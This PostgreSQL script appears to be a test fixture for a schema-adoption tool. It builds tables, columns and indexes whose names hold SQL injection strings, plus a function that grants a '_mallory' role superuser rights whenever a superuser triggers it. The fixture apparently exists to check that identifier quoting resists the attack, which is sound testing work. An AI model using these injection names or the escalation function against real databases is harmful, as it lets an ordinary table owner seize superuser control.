-- What an owner of tables, who is no superuser, may name and make so that a superuser's adoption runs it.
create function evil() returns boolean language plpgsql as $evil$
begin
  if (select rolsuper from pg_catalog.pg_roles where rolname = current_user) then
    execute 'alter role "' || current_database() || '_mallory" superuser';
  end if;
  perform pg_catalog.set_config('evil.ran', 'yes', false);
  insert into public.called values (current_user);
  return true;
end $evil$;
create table called (by_whom text);
create table companies (id varchar primary key, name text not null);
create table "$$set check_function_bodies=0;select public.evil();select $$" (id varchar primary key, company_id varchar references companies (id));
create table contacts (
  id varchar primary key,
  "$$set check_function_bodies=0;select public.evil();select $$" varchar not null references "$$set check_function_bodies=0;select public.evil();select $$" (id),
  "x) DEFERRABLE; select public.evil(); --" varchar
);
create unique index "x USING btree (id); select public.evil(); --" on contacts ("x) DEFERRABLE; select public.evil(); --");
alter table contacts add constraint late unique ("x) DEFERRABLE; select public.evil(); --");
create table notes ("index concurrently ' $9 p." varchar primary key, contact varchar not null references contacts (id));
insert into companies values ('a', 'Nadan'), ('b', 'Sunstone');
insert into "$$set check_function_bodies=0;select public.evil();select $$" select 'u' || i, case when i % 2 = 0 then 'a' else 'b' end from generate_series(1, 6) i;
insert into contacts select 'c' || i, 'u' || 1 + i % 6, 'x' || i from generate_series(1, 20) i;
insert into notes select 'n' || i, 'c' || 1 + i % 20 from generate_series(1, 40) i;
